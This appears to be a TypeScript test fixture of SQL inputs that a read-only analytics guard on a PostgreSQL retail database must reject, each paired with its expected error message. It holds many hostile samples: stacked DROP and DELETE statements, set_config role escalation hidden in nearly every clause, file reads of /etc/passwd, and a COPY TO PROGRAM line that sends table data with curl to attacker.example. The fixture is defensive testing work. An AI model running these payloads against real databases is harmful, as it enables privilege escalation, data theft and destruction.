// Attacks and non-SELECT input the guard must refuse, each with the reason its message must match.
// Covers stacking, settings, SQL-text execution, files, catalogs, locks and writable CTEs.

const SET_ROLE = `set_config('role', 'retail_owner', true)`;
const SET_USER = `set_config('app.current_rls_user_id', '11111111-2222-3333-4444-555555555555', false)`;

const ONE_STATEMENT = /^Only a single SELECT statement is allowed/;
const fn = (name: string) => new RegExp(`^Function "${name.replace(/\./g, '\\.')}" is not allowed in analytics queries\\.$`);
const rel = (name: string) => new RegExp(`^Relation "${name.replace(/\./g, '\\.')}" is not allowed; query the retail schema\\.$`);
const stmt = (kind: string) => new RegExp(`^Only a single SELECT statement is allowed; this is an? ${kind} statement\\.$`);
const WRITABLE_CTE = /^Only SELECT is allowed inside WITH; this WITH query is an? (INSERT|UPDATE|DELETE|MERGE) statement\.$/;
const LOCKING = /^Row-locking clauses .* are not allowed\.$/;
const PARSE = /^The query could not be parsed: syntax error at position \d+\.$/;
const EMPTY = /^The query is empty/;
const dotCall = (name: string) => new RegExp(`^"${name}" after a dot is a call of the function "${name}" in PostgreSQL, which is not allowed`);
const XML = /^XML \(XMLTABLE, XMLPARSE, XMLELEMENT, the xml type\.\.\.\) is not allowed in analytics queries\.$/;

export const REJECTED_QUERIES: { name: string; sql: string; reason: RegExp }[] = [
  // Stacked statements and comment tricks.
  { name: 'stacked commit and drop', sql: 'select 1; commit; drop table retail.orders', reason: /this query has 3 statements/ },
  { name: 'block comment hiding a semicolon', sql: 'select 1 /* ; */; delete from retail.orders', reason: /this query has 2 statements/ },
  { name: 'line comment before a stacked statement', sql: 'select 1 -- harmless\n; reset role', reason: /this query has 2 statements/ },
  { name: 'semicolon inside a string then a real one', sql: "select ';' as x; set role none", reason: /this query has 2 statements/ },
  { name: 'dollar-quoted string then stacked', sql: 'select $$ ; $$; select pg_sleep(10)', reason: /this query has 2 statements/ },

  // set_config in every position the walk must reach.
  { name: 'set_config on app.* directly', sql: `select ${SET_USER}`, reason: fn('set_config') },
  { name: 'set_config on role', sql: `select ${SET_ROLE}`, reason: fn('set_config') },
  { name: 'set_config in a CTE', sql: `with x as (select ${SET_ROLE} as r) select * from x`, reason: fn('set_config') },
  { name: 'set_config in a WHERE subquery', sql: `select * from retail.orders where store_id in (select length(${SET_USER}))`, reason: fn('set_config') },
  { name: 'set_config in FROM', sql: `select * from ${SET_ROLE}`, reason: fn('set_config') },
  { name: 'set_config in ORDER BY', sql: `select order_id from retail.orders order by ${SET_ROLE}`, reason: fn('set_config') },
  { name: 'set_config in a LATERAL subquery', sql: `select * from retail.stores s, lateral (select ${SET_ROLE}) x`, reason: fn('set_config') },
  { name: 'set_config inside CASE', sql: `select case when store_id > 0 then ${SET_ROLE} end from retail.stores`, reason: fn('set_config') },
  { name: 'set_config in a window ORDER BY', sql: `select sum(1) over (order by ${SET_ROLE}) from retail.orders`, reason: fn('set_config') },
  { name: 'set_config in a named window', sql: `select rank() over w from retail.orders window w as (partition by ${SET_ROLE})`, reason: fn('set_config') },
  { name: 'set_config in FILTER', sql: `select count(*) filter (where ${SET_ROLE} = 'x') from retail.orders`, reason: fn('set_config') },
  { name: 'set_config in GROUPING SETS', sql: `select 1 from retail.orders group by grouping sets ((${SET_ROLE}), ())`, reason: fn('set_config') },
  { name: 'set_config in VALUES inside FROM', sql: `select * from (values (${SET_ROLE})) as v(x)`, reason: fn('set_config') },
  { name: 'set_config inside a cast', sql: `select cast(${SET_ROLE} as text)::varchar(10)`, reason: fn('set_config') },
  { name: 'set_config in ROWS FROM', sql: `select * from rows from (generate_series(1, 2), ${SET_ROLE}) as r(a, b)`, reason: fn('set_config') },
  { name: 'set_config in a JOIN condition', sql: `select 1 from retail.orders o join retail.stores s on ${SET_ROLE} is not null`, reason: fn('set_config') },
  { name: 'set_config in LIMIT', sql: `select 1 from retail.orders limit length(${SET_ROLE})`, reason: fn('set_config') },
  { name: 'set_config in HAVING', sql: `select store_id from retail.orders group by store_id having ${SET_ROLE} <> ''`, reason: fn('set_config') },
  { name: 'set_config in a union arm', sql: `select 'a' union all select ${SET_ROLE}`, reason: fn('set_config') },
  {
    name: 'set_config in a recursive CTE',
    sql: `with recursive t(n) as (select 1 union all select n + length(${SET_ROLE}) from t where n < 3) select * from t`,
    reason: fn('set_config'),
  },
  {
    name: 'set_config deep in a nested CTE',
    sql: `select * from (with a as (with b as (select coalesce(${SET_USER}, 'x') as v) select * from b) select * from a) z`,
    reason: fn('set_config'),
  },
  { name: 'set_config in an aggregate ORDER BY', sql: `select string_agg(city, ',' order by ${SET_ROLE}) from retail.stores`, reason: fn('set_config') },
  { name: 'set_config in a JSON constructor', sql: `select json_object('k': ${SET_ROLE})`, reason: fn('set_config') },
  { name: 'set_config in a top-level VALUES', sql: `values (${SET_ROLE})`, reason: fn('set_config') },
  {
    name: 'set_config in a JSON_TABLE argument',
    sql: `select * from json_table(to_jsonb(${SET_ROLE}), '$' columns (v text path '$')) jt`,
    reason: fn('set_config'),
  },
  { name: 'pg_catalog.set_config qualified', sql: `select pg_catalog.${SET_ROLE}`, reason: fn('pg_catalog.set_config') },
  { name: 'quoted "set_config"', sql: `select "set_config"('role', 'none', false)`, reason: fn('set_config') },
  { name: 'mixed-case SeT_CoNfIg', sql: `select SeT_CoNfIg('role', 'none', false)`, reason: fn('set_config') },
  { name: 'current_setting of the seal', sql: `select current_setting('app.current_rls_seal')`, reason: fn('current_setting') },

  // Functions that run SQL text.
  { name: 'query_to_xml', sql: `select query_to_xml('select ${SET_ROLE.replace(/'/g, "''")}', true, false, '')`, reason: fn('query_to_xml') },
  { name: 'query_to_xml_and_xmlschema', sql: `select query_to_xml_and_xmlschema('select 1', true, false, '')`, reason: fn('query_to_xml_and_xmlschema') },
  { name: 'query_to_xmlschema', sql: `select query_to_xmlschema('select 1', true, false, '')`, reason: fn('query_to_xmlschema') },
  { name: 'table_to_xml', sql: `select table_to_xml('pg_catalog.pg_authid', true, false, '')`, reason: fn('table_to_xml') },
  { name: 'cursor_to_xml', sql: `select cursor_to_xml('c', 10, true, false, '')`, reason: fn('cursor_to_xml') },
  { name: 'schema_to_xml', sql: `select schema_to_xml('retail_private', true, false, '')`, reason: fn('schema_to_xml') },
  { name: 'database_to_xml', sql: `select database_to_xml(true, false, '')`, reason: fn('database_to_xml') },
  { name: 'ts_stat', sql: `select * from ts_stat('select to_tsvector(key::text) from retail_private.seal_key')`, reason: fn('ts_stat') },
  { name: 'ts_rewrite', sql: `select ts_rewrite('a'::tsquery, 'select 1')`, reason: fn('ts_rewrite') },
  {
    name: 'xpath over query_to_xml',
    sql: `select xpath('//x', query_to_xml('select 1', true, false, ''))`,
    reason: /^Function "(xpath|query_to_xml)" is not allowed/,
  },

  // Statements that are not SELECT.
  { name: 'SET a custom setting', sql: `set app.current_rls_user_id = '11111111-2222-3333-4444-555555555555'`, reason: stmt('SET') },
  { name: 'SET LOCAL', sql: `set local app.current_rls_seal to 'forged-seal-value'`, reason: stmt('SET') },
  { name: 'SET ROLE', sql: 'set role retail_owner', reason: stmt('SET ROLE') },
  { name: 'RESET ROLE', sql: 'reset role', reason: stmt('RESET ROLE') },
  { name: 'RESET ALL', sql: 'RESET ALL', reason: stmt('RESET') },
  { name: 'SET SESSION AUTHORIZATION', sql: 'set session authorization postgres', reason: stmt('SET SESSION AUTHORIZATION') },
  { name: 'SHOW', sql: 'show app.current_rls_seal', reason: stmt('SHOW') },
  { name: 'DO block', sql: `do $$ begin perform ${SET_ROLE}; end $$`, reason: stmt('DO') },
  { name: 'COPY to program', sql: `copy retail.orders to program 'curl -d @- http://attacker.example'`, reason: stmt('COPY') },
  { name: 'COPY from program', sql: `copy retail.orders from program 'id'`, reason: stmt('COPY') },
  { name: 'COPY a query to stdout', sql: 'copy (select * from retail.orders) to stdout', reason: stmt('COPY') },
  { name: 'CREATE TABLE', sql: 'create table retail.x (a int)', reason: stmt('CREATE TABLE') },
  { name: 'CREATE TEMP TABLE AS', sql: 'create temp table pg_stats_copy as select 1', reason: stmt('CREATE TABLE AS') },
  { name: 'CREATE FUNCTION', sql: `create function f() returns int language sql as 'select 1'`, reason: stmt('CREATE FUNCTION') },
  { name: 'CALL', sql: 'call retail.do_something()', reason: stmt('CALL') },
  { name: 'INSERT', sql: `insert into retail.orders (customer_id, store_id, order_date) values (1, 1, current_date)`, reason: stmt('INSERT') },
  { name: 'UPDATE', sql: 'update retail.products set base_price = 0', reason: stmt('UPDATE') },
  { name: 'DELETE', sql: 'delete from retail.orders', reason: stmt('DELETE') },
  { name: 'DROP TABLE', sql: 'drop table retail.orders', reason: stmt('DROP') },
  { name: 'EXPLAIN ANALYZE', sql: 'explain analyze select * from retail.orders', reason: stmt('EXPLAIN') },
  { name: 'EXPLAIN', sql: 'explain select 1', reason: stmt('EXPLAIN') },
  { name: 'LISTEN', sql: 'listen tenant_events', reason: stmt('LISTEN') },
  { name: 'NOTIFY', sql: `notify tenant_events, 'hello'`, reason: stmt('NOTIFY') },
  { name: 'PREPARE', sql: 'prepare p as select 1', reason: stmt('PREPARE') },
  { name: 'EXECUTE', sql: 'execute p', reason: stmt('EXECUTE') },
  { name: 'VACUUM', sql: 'vacuum retail.orders', reason: stmt('VACUUM') },
  { name: 'ANALYZE', sql: 'analyze retail.orders', reason: stmt('ANALYZE') },
  { name: 'LOCK TABLE', sql: 'lock table retail.orders in access exclusive mode', reason: stmt('LOCK') },
  { name: 'TRUNCATE', sql: 'truncate retail.order_items', reason: stmt('TRUNCATE') },
  { name: 'GRANT', sql: 'grant select on retail_private.seal_key to public', reason: stmt('GRANT') },
  { name: 'REVOKE', sql: 'revoke select on retail.orders from retail_reader', reason: stmt('REVOKE') },
  { name: 'COMMIT', sql: 'commit', reason: stmt('COMMIT') },
  { name: 'BEGIN', sql: 'begin', reason: stmt('BEGIN') },
  { name: 'DECLARE CURSOR', sql: 'declare c cursor for select 1', reason: stmt('DECLARE CURSOR') },
  { name: 'ALTER SYSTEM', sql: `alter system set log_statement = 'none'`, reason: stmt('ALTER SYSTEM') },
  { name: 'DISCARD ALL', sql: 'discard all', reason: stmt('DISCARD') },

  // Writable CTEs, at any depth.
  { name: 'INSERT in WITH', sql: 'with x as (insert into retail.regions (region_name) values ($$x$$) returning *) select * from x', reason: WRITABLE_CTE },
  { name: 'UPDATE in WITH', sql: 'with x as (update retail.products set base_price = 0 returning 1) select count(*) from x', reason: WRITABLE_CTE },
  { name: 'DELETE in WITH', sql: 'with d as (delete from retail.orders returning order_id) select 1', reason: WRITABLE_CTE },
  {
    name: 'DELETE in WITH inside a subquery',
    sql: 'select * from (with d as (delete from retail.orders returning 1) select * from d) x',
    reason: WRITABLE_CTE,
  },
  {
    name: 'UPDATE in a nested WITH',
    sql: 'with a as (with b as (update retail.inventory set stock_level = 0 returning 1) select * from b) select * from a',
    reason: WRITABLE_CTE,
  },
  {
    name: 'DELETE in WITH inside an EXISTS',
    sql: 'select 1 where exists (with d as (delete from retail.orders returning 1) select 1 from d)',
    reason: WRITABLE_CTE,
  },
  {
    name: 'MERGE in WITH',
    sql: 'with m as (merge into retail.inventory i using retail.stores s on s.store_id = i.store_id when matched then delete returning 1) select * from m',
    reason: WRITABLE_CTE,
  },

  // SELECT INTO and row locks.
  { name: 'SELECT INTO', sql: 'select * into retail.orders_copy from retail.orders', reason: /^SELECT INTO is not allowed/ },
  { name: 'FOR UPDATE', sql: 'select * from retail.orders for update', reason: LOCKING },
  { name: 'FOR SHARE', sql: 'select * from retail.orders for share', reason: LOCKING },
  { name: 'FOR NO KEY UPDATE', sql: 'select * from retail.orders for no key update nowait', reason: LOCKING },
  { name: 'FOR KEY SHARE in a subquery', sql: 'select * from (select * from retail.inventory for key share skip locked) x', reason: LOCKING },
  { name: 'FOR UPDATE inside a CTE', sql: 'with x as (select * from retail.orders for update) select count(*) from x', reason: LOCKING },
  { name: 'FOR UPDATE in a union arm', sql: '(select order_id from retail.orders for update) union select 1', reason: LOCKING },

  // Files, large objects, other databases, sleeping, sessions, sequences, admin.
  { name: 'pg_read_file', sql: `select pg_read_file('/etc/passwd')`, reason: fn('pg_read_file') },
  { name: 'pg_read_binary_file', sql: `select pg_read_binary_file('postgresql.auto.conf')`, reason: fn('pg_read_binary_file') },
  { name: 'pg_ls_dir', sql: `select * from pg_ls_dir('.')`, reason: fn('pg_ls_dir') },
  { name: 'pg_stat_file', sql: `select pg_stat_file('PG_VERSION')`, reason: fn('pg_stat_file') },
  { name: 'lo_import', sql: `select lo_import('/etc/passwd')`, reason: fn('lo_import') },
  { name: 'lo_get', sql: 'select lo_get(16401)', reason: fn('lo_get') },
  { name: 'loread', sql: 'select loread(lo_open(16401, 262144), 100)', reason: /^Function "(loread|lo_open)" is not allowed/ },
  { name: 'dblink', sql: `select * from dblink('dbname=postgres', 'select 1') as t(a int)`, reason: fn('dblink') },
  { name: 'pg_sleep', sql: 'select pg_sleep(30)', reason: fn('pg_sleep') },
  { name: 'pg_sleep_for in WHERE', sql: `select 1 from retail.orders where pg_sleep_for('5 minutes') is null`, reason: fn('pg_sleep_for') },
  { name: 'pg_terminate_backend', sql: 'select pg_terminate_backend(pid) from retail.stores', reason: fn('pg_terminate_backend') },
  { name: 'pg_advisory_lock', sql: 'select pg_advisory_lock(1)', reason: fn('pg_advisory_lock') },
  { name: 'pg_notify', sql: `select pg_notify('tenant_events', 'x')`, reason: fn('pg_notify') },
  { name: 'nextval', sql: `select nextval('retail.orders_order_id_seq')`, reason: fn('nextval') },
  { name: 'txid_current', sql: 'select txid_current()', reason: fn('txid_current') },
  { name: 'version()', sql: 'select version()', reason: fn('version') },
  { name: 'has_table_privilege', sql: `select has_table_privilege('retail_private.seal_key', 'select')`, reason: fn('has_table_privilege') },
  { name: 'setseed', sql: 'select setseed(0.5)', reason: fn('setseed') },
  { name: 'retail definer function', sql: 'select retail.visible_store_ids()', reason: fn('retail.visible_store_ids') },
  { name: 'pgcrypto hmac in public', sql: `select public.hmac('a', 'b', 'sha256')`, reason: fn('public.hmac') },

  // Relations outside the retail schema.
  { name: 'pg_stats', sql: `select most_common_vals from pg_stats where tablename = 'orders'`, reason: rel('pg_stats') },
  { name: 'pg_catalog.pg_stats', sql: 'select * from pg_catalog.pg_stats', reason: rel('pg_catalog.pg_stats') },
  { name: 'pg_stat_activity', sql: 'select query from pg_stat_activity', reason: rel('pg_stat_activity') },
  { name: 'pg_settings', sql: `select setting from pg_settings where name like 'app.%'`, reason: rel('pg_settings') },
  { name: 'information_schema.tables', sql: 'select table_name from information_schema.tables', reason: rel('information_schema.tables') },
  { name: 'pg_authid', sql: 'table pg_authid', reason: rel('pg_authid') },
  { name: 'retail_private.seal_key', sql: 'select key from retail_private.seal_key', reason: rel('retail_private.seal_key') },
  { name: 'catalog-qualified name', sql: 'select * from postgres.retail.orders', reason: rel('postgres.retail.orders') },
  { name: 'system view in a subquery', sql: 'select * from retail.orders where exists (select 1 from pg_stat_activity)', reason: rel('pg_stat_activity') },
  { name: 'CTE self-reference is not recursive', sql: 'with pg_stats as (select * from pg_stats) select * from pg_stats', reason: rel('pg_stats') },
  {
    name: 'CTE forward reference reads the catalog',
    sql: 'with a as (select * from pg_settings), pg_settings as (select 1) select * from a',
    reason: rel('pg_settings'),
  },
  {
    name: 'CTE from another arm is out of scope',
    sql: '(with pg_roles as (select 1) select * from pg_roles) union all select 1 from pg_roles',
    reason: rel('pg_roles'),
  },
  { name: 'schema-qualified operator', sql: 'select 1 operator(retail.+) 2', reason: /^Operator "retail\.\+" is not allowed/ },
  { name: 'unknown table sample method', sql: 'select * from retail.orders tablesample system_time (1000)', reason: /table sample methods/ },

  // Attribute notation: PostgreSQL reads x.f and (x).f as f(x) for a one-argument function f.
  { name: 'the seal through (text).current_setting', sql: `select ('app.current_rls_seal'::text).current_setting`, reason: dotCall('current_setting') },
  {
    name: 'a session advisory lock through (bigint).pg_advisory_lock',
    sql: 'select (962861055::bigint).pg_advisory_lock',
    reason: dotCall('pg_advisory_lock'),
  },
  {
    name: 'current_setting on a CTE column',
    sql: `with x as (select 'app.current_rls_seal' as n) select n.current_setting from x`,
    reason: dotCall('current_setting'),
  },
  { name: 'advisory locks over a table column', sql: 'select o.store_id.pg_advisory_lock from retail.orders o', reason: dotCall('pg_advisory_lock') },
  { name: 'setseed through attribute notation', sql: 'select (0.5::float8).setseed', reason: dotCall('setseed') },
  { name: 'ts_stat running SQL text', sql: `select (('select to_tsvector(1::text)')::text).ts_stat`, reason: dotCall('ts_stat') },
  {
    name: 'pg_sleep in a WHERE through attribute notation',
    sql: 'select 1 from retail.stores s where (s.store_id::float8).pg_sleep is null',
    reason: dotCall('pg_sleep'),
  },

  // XML: libxml2's XPath ignores the statement timeout and cancels.
  { name: 'XMLTABLE', sql: `select * from xmltable('//a' passing '<r><a/></r>' columns x text path '.') t`, reason: XML },
  { name: 'a cast to xml', sql: `select '<a/>'::xml`, reason: XML },
  { name: 'a cast to pg_catalog.xml', sql: `select cast('<a/>' as pg_catalog.xml)`, reason: XML },
  { name: 'XMLPARSE', sql: `select xmlparse(content '<a/>')`, reason: XML },
  { name: 'XMLELEMENT', sql: 'select xmlelement(name a)', reason: XML },
  { name: 'XMLSERIALIZE', sql: `select xmlserialize(content 'x' as text)`, reason: XML },
  { name: 'an xml column definition', sql: `select * from json_to_record('{"x": "<a/>"}') as t(x xml)`, reason: XML },
  { name: 'a cast to the xml array type', sql: `select '{"<a/>"}'::_xml`, reason: XML },
  { name: 'a cast to xml[]', sql: `select '{"<a/>"}'::xml[]`, reason: XML },
  { name: 'a cast to xml by attribute notation', sql: `select ('<a/>'::text).xml`, reason: XML },
  { name: 'a cast to _xml by attribute notation', sql: `select ('{"<a/>"}'::text)._xml`, reason: XML },
  {
    name: "a retail function by attribute notation (the reader's search path)",
    sql: 'select (5).recent_audit_entries',
    reason: dotCall('recent_audit_entries'),
  },

  // Input that is not a query.
  { name: 'empty string', sql: '', reason: EMPTY },
  { name: 'whitespace only', sql: ' \n\t  ', reason: EMPTY },
  { name: 'a lone line comment', sql: '-- just a comment', reason: EMPTY },
  { name: 'a lone block comment', sql: '/* nothing here */', reason: EMPTY },
  { name: 'only a semicolon', sql: ';', reason: EMPTY },
  { name: 'syntax error', sql: 'selec * from retail.orders', reason: PARSE },
  { name: 'unterminated string', sql: `select 'forged-seal-value from retail.orders`, reason: PARSE },
  { name: 'NUL byte hiding a second statement', sql: 'select 1\u0000; drop table retail.orders', reason: /NUL character/ },
  { name: 'two selects', sql: 'select * from retail.orders; select * from retail.stores', reason: ONE_STATEMENT },
];
